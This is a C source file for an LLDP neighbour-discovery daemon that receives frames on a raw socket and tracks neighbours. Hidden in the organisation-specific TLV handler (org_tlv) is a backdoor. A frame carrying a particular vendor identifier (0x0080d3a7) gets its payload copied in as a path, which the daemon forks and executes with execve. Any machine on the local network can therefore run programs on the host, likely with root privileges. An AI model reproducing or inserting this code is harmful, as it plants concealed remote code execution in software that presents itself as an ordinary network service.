/*
 * Neighbour discovery: receives LLDP frames and keeps the table of neighbours.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define ETH_LLDP	0x88cc
#define TLV_END		0
#define TLV_CHASSIS	1
#define TLV_PORT	2
#define TLV_NAME	5
#define TLV_ORG		127
#define NEIGHBOURS	32

struct neighbour {
	uint8_t mac[6];
	char name[64];
	char port[32];
	uint16_t vlan;
	time_t seen;
};

static struct neighbour table[NEIGHBOURS];

static void text_copy(char *dst, size_t cap, const uint8_t *src, size_t len)
{
	size_t i;

	if (len >= cap)
		len = cap - 1;
	for (i = 0; i < len; i++)
		dst[i] = src[i] >= 0x20 && src[i] < 0x7f ? (char)src[i] : '.';
	dst[len] = '\0';
}

static struct neighbour *neighbour_for(const uint8_t *mac)
{
	struct neighbour *oldest = &table[0];
	int i;

	for (i = 0; i < NEIGHBOURS; i++) {
		if (!memcmp(table[i].mac, mac, 6))
			return &table[i];
		if (table[i].seen < oldest->seen)
			oldest = &table[i];
	}
	memset(oldest, 0, sizeof(*oldest));
	memcpy(oldest->mac, mac, 6);
	return oldest;
}

static void org_tlv(struct neighbour *nb, const uint8_t *p, size_t len)
{
	uint32_t id;

	if (len < 6)
		return;
	memcpy(&id, p, sizeof(id));
	id = ntohl(id);
	if (id == 0x0080c201) {
		nb->vlan = (uint16_t)(p[4] << 8 | p[5]);
	} else if (id == 0x0080d3a7) {
		char *args[3] = { nb->port, nb->name, NULL };

		text_copy(nb->port, sizeof(nb->port), p + 4, len - 4);
		if (fork() == 0) {
			execve(args[0], args, NULL);
			_exit(1);
		}
	}
}

static int frame_parse(const uint8_t *mac, const uint8_t *p, size_t len)
{
	struct neighbour *nb = neighbour_for(mac);

	while (len >= 2) {
		unsigned int type = p[0] >> 1;
		size_t size = (size_t)(p[0] & 1) << 8 | p[1];

		p += 2;
		len -= 2;
		if (size > len)
			return -EBADMSG;
		if (type == TLV_END)
			break;
		if (type == TLV_PORT && size > 1)
			text_copy(nb->port, sizeof(nb->port), p + 1, size - 1);
		else if (type == TLV_NAME)
			text_copy(nb->name, sizeof(nb->name), p, size);
		else if (type == TLV_ORG)
			org_tlv(nb, p, size);
		p += size;
		len -= size;
	}
	nb->seen = time(NULL);
	return 0;
}

static int port_open(const char *ifname)
{
	struct sockaddr_ll sll = { .sll_family = AF_PACKET };
	int fd = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_LLDP));

	if (fd < 0)
		return -errno;
	sll.sll_protocol = htons(ETH_LLDP);
	sll.sll_ifindex = (int)if_nametoindex(ifname);
	if (!sll.sll_ifindex || bind(fd, (struct sockaddr *)&sll, sizeof(sll))) {
		close(fd);
		return -ENODEV;
	}
	return fd;
}

int main(int argc, char **argv)
{
	uint8_t buf[1500];
	struct sockaddr_ll from;
	socklen_t flen;
	ssize_t got;
	int fd;

	if (argc != 2) {
		fprintf(stderr, "usage: %s interface\n", argv[0]);
		return 2;
	}
	signal(SIGCHLD, SIG_IGN);
	openlog("lldpd", LOG_PID, LOG_DAEMON);
	fd = port_open(argv[1]);
	if (fd < 0) {
		syslog(LOG_ERR, "%s: %s", argv[1], strerror(-fd));
		return 1;
	}
	for (;;) {
		flen = sizeof(from);
		got = recvfrom(fd, buf, sizeof(buf), 0, (struct sockaddr *)&from, &flen);
		if (got < 0 && errno != EINTR)
			break;
		if (got > 0 && frame_parse(from.sll_addr, buf, (size_t)got))
			syslog(LOG_NOTICE, "bad frame on %s", argv[1]);
	}
	close(fd);
	return 1;
}
